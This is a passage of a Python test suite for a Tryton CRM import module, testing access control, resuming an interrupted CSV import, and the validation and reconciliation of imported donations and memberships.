            self.assertEqual(run.created, 1)
            self.assertEqual(Run.search_count([]), 1)
        with Transaction().set_user(collecte2.id), \
                Transaction().set_context(_check_access=True):
            # Each user sees the runs they made.
            self.assertEqual(Run.search_count([]), 0)
        with Transaction().set_user(reves.id), \
                Transaction().set_context(_check_access=True):
            self.assertEqual(len(Profile.search([])), 1)
            with self.assertRaises(AccessError):
                Run.start(Profile(profile.id), 'f.csv', csv_bytes(ROWS[1:2]))
            with self.assertRaises(AccessError):
                Profile.write([Profile(profile.id)], {'source': "Autre"})
        with Transaction().set_user(volunteer.id), \
                Transaction().set_context(_check_access=True):
            with self.assertRaises(AccessError):
                Profile.search([])
            with self.assertRaises(AccessError):
                Run.search([])


    @unittest.skipUnless(
        os.environ.get('CONNEXION_BACKEND') == 'postgresql',
        "scripts/import runs in another process on a shared database")
    def test_resume_after_kill(self):
        "An import killed (kill -9) after a batch resumes and imports the rest once"
        import signal
        import tempfile
        import time
        count, size = 300, 10
        rows = [[f'K{i}', f'Nom{i:05d}', 'Camille', f'c{i}@example.org', '',
                '', ''] for i in range(count)]
        with Transaction().start(DB_NAME, 0) as transaction:
            pool = Pool()
            Profile = pool.get('connexion.import.profile')
            profile = make_profile("Reprise interrompue")
            Profile.write([profile], {'batch_size': size})
            transaction.commit()
        directory = tempfile.mkdtemp()
        path = os.path.join(directory, 'donateurs.csv')
        with open(path, 'wb') as fp:
            fp.write(csv_bytes(rows))
        env = dict(os.environ)
        command = [sys.executable, '-m', 'connexion_import.cli',
            '-d', DB_NAME, '-p', "Reprise interrompue", '-q', path]

        def imported():
            with Transaction().start(DB_NAME, 0, readonly=True):
                Key = Pool().get('connexion.import.key')
                return Key.search_count([('source', '=', "Ancien CRM")])
        try:
            process = subprocess.Popen(command, env=env,
                stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
            while imported() < size and process.poll() is None:
                time.sleep(0.01)
            if process.poll() is not None:
                self.fail("scripts/import ended before it was killed: "
                    + process.stderr.read().decode())
            os.kill(process.pid, signal.SIGKILL)
            process.wait()
            first = imported()
            self.assertGreaterEqual(first, size)
            self.assertLess(first, count)
            self.assertEqual(first % size, 0)  # only whole batches saved

            result = subprocess.run(command, env=env, capture_output=True,
                text=True)
            self.assertEqual(result.returncode, 0, result.stderr)
            self.assertEqual(imported(), count)
            with Transaction().start(DB_NAME, 0, readonly=True):
                Party = Pool().get('party.party')
                names = [p.name for p in Party.search(
                        [('name', 'like', 'Camille Nom%')])]
            self.assertEqual(len(names), count)
            self.assertEqual(len(set(names)), count)
            self.assertIn(f'{count - first}', result.stdout)
        finally:
            with Transaction().start(DB_NAME, 0) as transaction:
                pool = Pool()
                for name in ['connexion.import.key', 'connexion.import.run',
                        'connexion.import.profile']:
                    Model = pool.get(name)
                    Model.delete(Model.search([]))
                Party = pool.get('party.party')
                Party.delete(Party.search([('name', 'like', 'Camille Nom%')]))
                transaction.commit()


    @with_transaction()
    def test_donations(self):
        "Gifts are attached to the donors imported before; bad rows reported"
        from trytond.modules.company.tests import create_company, set_company
        pool = Pool()
        Profile = pool.get('connexion.import.profile')
        Run = pool.get('connexion.import.run')
        Donation = pool.get('connexion.donation')
        company = create_company()
        with set_company(company):
            donors = make_profile()
            run, _, _ = Run.start(donors, 'donateurs.csv', csv_bytes(ROWS))
            self.assertEqual(run.created, 2)
            profile, = Profile.create([{
                        'name': "Dons ancien CRM", 'entity': 'donation',
                        'source': "Ancien CRM",
                        'columns': [('create', [
                                    {'column': c, 'target': t} for c, t in [
                                        ('Réf don', 'key'),
                                        ('N° donateur', 'donor_key'),
                                        ('Date', 'date'),
                                        ('Montant', 'amount'),
                                        ('Mode', 'payment_method')]])],
                        'transcodes': [('create', [
                                    {'target': 'payment_method',
                                        'source_value': s, 'value': v}
                                    for s, v in [('CHQ', 'check'),
                                        ('VIR', 'transfer')]])],
                        }])
            rows = [
                ['G1', 'D1', '15/03/2023', '50', 'CHQ'],
                ['G2', 'D1', '02/01/2024', '1 200,50', 'vir'],
                ['G3', 'D2', '31/02/2024', '10', 'VIR'],  # invalid date
                ['G4', 'D2', '05/05/2024', '-10', 'VIR'],  # negative
                ['G5', 'D2', '05/05/2024', 'dix', 'VIR'],  # not a number
                ['G6', 'D9', '05/05/2024', '10', 'VIR'],  # unknown donor
                ['G7', 'D2', '05/05/2024', '10', 'BITCOIN'],  # unknown code
                ['G2', 'D1', '02/01/2024', '1 200,50', 'VIR'],  # duplicate
                ['G8', 'D2', '06/06/2024', '20', ''],
                ]
            data = csv_bytes(rows, header=DONATION_HEADER)
            run, plan, report = Run.start(profile, 'dons.csv', data,
                dry_run=True)
            self.assertEqual(Donation.search_count([]), 0)
            run, plan, report = Run.start(profile, 'dons.csv', data)
            self.assertEqual((run.created, run.rejected), (3, 6))
            errors = errors_of(run.error_file(plan))
            self.assertEqual(
                {line: e[0][0] for line, e in errors.items()},
                {4: 'Date', 5: 'Montant', 6: 'Montant', 7: 'N° donateur',
                    8: 'Mode', 9: 'Réf don'})
            donations = Donation.search([], order=[('date', 'ASC')])
            self.assertEqual(
                [(d.party.name, d.amount, d.payment_method, d.state)
                    for d in donations], [
                    ('Élise Moreau', Decimal('50.00'), 'check', 'draft'),
                    ('Élise Moreau', Decimal('1200.50'), 'transfer', 'draft'),
                    ('Tom Garnier', Decimal('20.00'), None, 'draft')])
            # Migration indicators: per year, file and database agree.
            lines = report.splitlines()
            self.assertIn('2023 | 1 | 50.00 | 1 | 50.00', lines)
            self.assertIn('2024 | 2 | 1220.50 | 2 | 1220.50', lines)
            # Importing again imports nothing twice.
            run, plan, report = Run.start(profile, 'dons.csv', data)
            self.assertEqual((run.created, run.skipped), (0, 3))
            self.assertEqual(Donation.search_count([]), 3)

            # Members of the old file: the type gives the fee and the end.
            Type = pool.get('connexion.membership.type')
            Membership = pool.get('connexion.membership')
            Type.create([{'name': "Adhésion annuelle", 'fee': Decimal(20),
                        'period': 'yearly'}])
            members, = Profile.create([{
                        'name': "Adhérents", 'entity': 'membership',
                        'source': "Ancien CRM",
                        'columns': [('create', [
                                    {'column': c, 'target': t} for c, t in [
                                        ('N° adhérent', 'donor_key'),
                                        ('Type', 'membership_type'),
                                        ('Début', 'start_date'),
                                        ('Fin', 'end_date'),
                                        ('Cotisation', 'amount'),
                                        ('Mode', 'payment_method')]])],
                        }])
            today = dt.date.today()
            rows = [
                ['D1', 'adhesion annuelle', '01/01/2024', '', '', 'check'],
                ['D2', 'Adhésion annuelle', f'01/01/{today.year}',
                    f'31/12/{today.year}', '35', 'cash'],
                ['D1', 'Bienfaiteur', '01/01/2024', '', '', ''],
                ['D2', 'Adhésion annuelle', '01/01/2023', '31/12/2022', '',
                    ''],
                ]
            data = csv_bytes(rows, header=['N° adhérent', 'Type', 'Début',
                    'Fin', 'Cotisation', 'Mode'])
            run, plan, report = Run.start(members, 'adherents.csv', data)
            self.assertEqual((run.created, run.rejected), (2, 2))
            self.assertEqual(
                {line: e[0][0] for line, e in errors_of(
                        run.error_file(plan)).items()},
                {4: 'Type', 5: 'Fin'})
            memberships = Membership.search([], order=[('start_date', 'ASC')])
            self.assertEqual([(m.party.name, m.end_date, m.amount, m.status)
                    for m in memberships], [
                    ('Élise Moreau', dt.date(2024, 12, 31), Decimal(20),
                        'expired'),
                    ('Tom Garnier', dt.date(today.year, 12, 31),
                        Decimal(35), 'active')])
            self.assertIn('2024 | 1 | 20.00 | 1 | 20.00',
                report.splitlines())


del ModuleTestCase
